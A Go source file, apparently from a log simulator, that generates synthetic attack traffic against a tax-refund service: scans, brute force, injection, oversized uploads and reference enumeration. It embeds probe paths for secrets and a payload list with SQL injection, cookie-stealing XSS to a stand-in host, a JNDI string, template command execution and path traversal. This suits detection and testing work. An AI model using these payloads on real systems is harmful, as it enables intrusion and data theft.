package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// probes are the paths scanners try on every site they find.
var probes = []string{"/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/admin", "/admin/login", "/administrator/", "/server-status", "/.aws/credentials", "/config.json", "/backup.zip", "/db.sql", "/.DS_Store", "/actuator/env", "/actuator/health", "/swagger-ui.html", "/v2/api-docs", "/graphql", "/console", "/solr/admin/info/system", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx", "/remote/login", "/+CSCOE+/logon.html", "/boaform/admin/formLogin", "/HNAP1/", "/.svn/entries", "/web.config", "/WEB-INF/web.xml", "/debug/pprof/", "/metrics", "/.vscode/sftp.json", "/_profiler/phpinfo", "/phpinfo.php", "/info.php", "/old/", "/staging/", "/jenkins/login", "/manager/html", "/druid/index.html", "/telescope/requests", "/storage/logs/laravel.log", "/.idea/workspace.xml", "/config/database.yml", "/app/etc/local.xml", "/backup/", "/index.php?s=/Index/\\think\\app/invokefunction"}

// scan probes for forgotten files and consoles: fast with a tool, slow to
// stay under the limits, or a few at a time between ordinary pages.
func (g *gen) scan(r *rand.Rand) {
	s := g.s
	v := s.variant(r, "scan")
	tool := []float64{0.9, 0.5, 0.05, 0.6}[v]
	w, _ := g.assail(r, "scan", tool, 0, 0.8)
	var api []string
	for _, p := range []string{"/swagger.json", "/openapi.yaml", "/admin/users", "/internal/health", "/debug/vars", "/v0/", "/../admin", "/users?limit=1000"} {
		api = append(api, s.api+p)
	}
	api = append(api, s.efile+"/admin", s.app+"/debug", s.open+"/datasets/../../etc/passwd", "/swagger-ui.html", "/v2/api-docs", "/graphql", "/actuator/env")
	paths := append(api, probes...)
	if v != 3 { // the API's own documents and consoles, or everything
		r.Shuffle(len(paths), func(i, j int) { paths[i], paths[j] = paths[j], paths[i] })
		paths = paths[:min(len(paths), 20+r.IntN(len(paths)))]
	}
	if v == 0 { // and the backups and leftovers of each
		for _, p := range paths {
			if !strings.Contains(p, "?") {
				paths = append(paths, p+Pick(r, []string{".bak", ".old", "~", ".zip", ".swp", ".orig"}), p+"/")
			}
		}
	}
	gap := []float64{1 / LogUniform(r, 3, 30), LogUniform(r, 3, 30), LogUniform(r, 2, 15), 1 / LogUniform(r, 0.5, 5)}[v]
	for i, p := range paths {
		if w.done() {
			return
		}
		if v == 2 && i > 0 && Chance(r, 0.5) {
			w.cover(1)
		}
		st := w.status([]int{404, 403, 401, 301, 405, 200}, []float64{78, 9, 5, 4, 3, 1})
		if strings.HasPrefix(p, "/.") {
			st = 403
		}
		method := "GET"
		if Chance(r, 0.06) {
			method = "POST"
		}
		w.send(method, p, st, 0, 700)
		w.wait(gap*0.5, gap*1.5)
	}
}

// bruteforce guesses one account's password, its one-time code, or its
// app PIN; locked out, it goes on.
func (g *gen) bruteforce(r *rand.Rand) {
	s := g.s
	v := s.variant(r, "bruteforce")
	w, onset := g.assail(r, "bruteforce", []float64{0.4, 0.3, 0, 0}[v], 0, 0.7)
	if v == 2 {
		w.ua, w.key = Pick(r, s.appUA), s.appKey
	}
	target := "u" + Hex(r, 12)
	rate := []float64{LogUniform(r, 0.2, 3), LogUniform(r, 0.5, 4), LogUniform(r, 0.3, 2), 1 / LogUniform(r, 8, 40)}[v]
	end := onset + Sec(LogUniform(r, 90, 700))
	fails := 0
	every(r, rate, onset, end, func(t int64) {
		w.t = max(t, w.t)
		if v == 3 && Chance(r, 0.4) {
			w.page("signin", w.api("/auth/config"))
		}
		w.user = target
		fails++
		st := 401
		if fails > 10 && fails%40 > 5 {
			st = 423
		}
		switch v {
		case 1:
			w.post(w.api("/auth/otp"), w.status([]int{st, 422}, []float64{8, 2}), 200, 250)
		case 2:
			w.post(s.app+"/auth/pin", st, 300, 250)
		default:
			w.post(w.api("/auth/signin"), st, 420, 300)
		}
		w.user = ""
	})
}

// payloads are what injection tools and people who read about them try.
var payloads = []string{
	"' OR '1'='1", "' OR 1=1--", "1; DROP TABLE returns--", "' UNION SELECT username,password FROM users--", "1' AND SLEEP(5)--", "1) AND 1=CONVERT(int,@@version)--", "admin'--", "1' ORDER BY 10--",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "<svg/onload=fetch('//x.example/'+document.cookie)>", "'-alert(1)-'",
	"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://x.example/a}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini", "/proc/self/environ", "; cat /etc/passwd", "| id", "`sleep 5`", "$(curl x.example)",
}

var raw = strings.NewReplacer(" ", "%20", "#", "%23", "&", "%26")

// injection puts payloads into query values: a tool walking the public
// lookups, a person by hand between pages, someone inside a signed-in
// session, or through the app.
func (g *gen) injection(r *rand.Rand) {
	s := g.s
	v := s.variant(r, "injection")
	w, onset := g.assail(r, "injection", []float64{0.8, 0, 0.1, 0}[v], 0, 0.8)
	id := "R" + Hex(r, 10)
	targets := []string{w.web("search?q="), w.api("/refunds/status?year=" + num(s.year) + "&ref="), w.api("/calculators/refund-estimate?income="), s.open + "/stats/filings?region=", w.api("/lookups/employers?q="), "/forms/download?file="}
	switch v {
	case 2:
		w.attack, w.account = false, "u"+Hex(r, 12)
		w.t = onset - Sec(Uniform(r, 60, 300))
		w.signIn(false)
		w.t, w.attack = min(max(w.t, onset), g.win-Sec(3)), true
		targets = []string{w.api("/returns/" + id + "/sections/" + Pick(r, s.sections) + "?field="), w.api("/returns/" + id + "/attachments?name="), w.api("/documents?sort="), w.api("/lookups/addresses?q=")}
	case 3:
		w.ua, w.key = Pick(r, s.appUA), s.appKey
		targets = []string{s.app + "/refunds/status?ref=", s.app + "/documents?filter=", s.app + "/messages?thread="}
	}
	pRaw, pOnce := Uniform(r, 0, 0.5), Uniform(r, 0.5, 0.95)
	gap := []float64{1 / LogUniform(r, 1, 8), LogUniform(r, 4, 25), LogUniform(r, 3, 20), LogUniform(r, 1, 10)}[v]
	for range 15 + r.IntN(250) {
		if w.done() {
			return
		}
		q := Pick(r, targets) + EncodeQuery(r, Pick(r, payloads), raw, pRaw, pOnce)
		w.get(q, w.status([]int{400, 403, 200, 500, 404}, []float64{35, 30, 25, 4, 6}), 1500)
		if v == 1 && Chance(r, 0.3) {
			w.cover(1)
		}
		w.wait(gap*0.5, gap*1.5)
	}
}

// upload sends documents no return needs: files of hundreds of megabytes a
// few times a minute, or a stream of smaller ones, signed in first.
func (g *gen) upload(r *rand.Rand) {
	s := g.s
	v := s.variant(r, "upload") % 3
	w, onset := g.assail(r, "upload", 0.1, 0, 0.75)
	w.attack, w.account = false, "u"+Hex(r, 12)
	w.t = onset - Sec(Uniform(r, 60, 400))
	if v == 2 {
		w.ua, w.key = Pick(r, s.appUA), s.appKey
		w.user = w.account
		w.post(s.app+"/auth/token", 200, 600, 1400)
	} else if !w.signIn(false) { // an account of its own that signs in
		w.user = w.account
	}
	w.t, w.attack = min(max(w.t, onset), g.win-Sec(3)), true
	id := "R" + Hex(r, 10)
	path := []string{w.api("/returns/" + id + "/attachments"), w.api("/idv/documents"), s.app + "/documents"}[v]
	rate := []float64{LogUniform(r, 2, 6) / 60, 1 / LogUniform(r, 1, 6), LogUniform(r, 4, 20) / 60}[v]
	end := w.t + Sec(LogUniform(r, 120, 900))
	w.bw = LogUniform(r, 15000, 90000)
	every(r, rate, w.t, end, func(t int64) {
		w.t = t
		size := LogUniform(r, 30e6, 300e6)
		if v == 1 {
			size = LogUniform(r, 4e6, 25e6)
		}
		st := 201
		switch {
		case size > s.uploadMax:
			st = 413
		case Chance(r, 0.05):
			st = 415
		}
		w.post(path, st, size, 700)
	})
}

// enumeration walks references or taxpayer numbers one after another:
// mostly nobody, now and then somebody.
func (g *gen) enumeration(r *rand.Rand) {
	s := g.s
	v := s.variant(r, "enumeration")
	w, onset := g.assail(r, "enumeration", []float64{0.6, 0, 0, 0}[v], 0, 0.75)
	switch v {
	case 1: // a preparer's account, bought or phished
		w.user = "prep-" + Hex(r, 8)
		w.hdr += 1400
	case 2:
		w.ua, w.key = Pick(r, s.appUA), s.appKey
	}
	next := 10000000 + r.IntN(89000000)
	tin := s.tin(r)
	step := 1 + r.IntN(3)
	hit := Uniform(r, 0.02, 0.12)
	rate := []float64{LogUniform(r, 0.5, 8), LogUniform(r, 0.3, 3), LogUniform(r, 0.3, 4), 1 / LogUniform(r, 2, 10)}[v]
	every(r, rate, onset, onset+Sec(LogUniform(r, 60, 700)), func(t int64) {
		w.t = max(t, w.t)
		next += step
		st := 404
		if Chance(r, hit) {
			st = 200
		}
		switch v {
		case 1:
			w.get(w.api("/preparer/taxpayers/"+tin[:len(tin)-8]+num(next)), st, 3500)
		case 2:
			w.get(s.app+"/refunds/"+s.refPrefix+num(next), st, 900)
		default:
			w.get(w.api("/refunds/status?ref="+s.refPrefix+num(next)+"&year="+num(s.year)), st, 1100)
		}
		if v == 3 && Chance(r, 0.2) {
			w.cover(1)
		}
	})
}
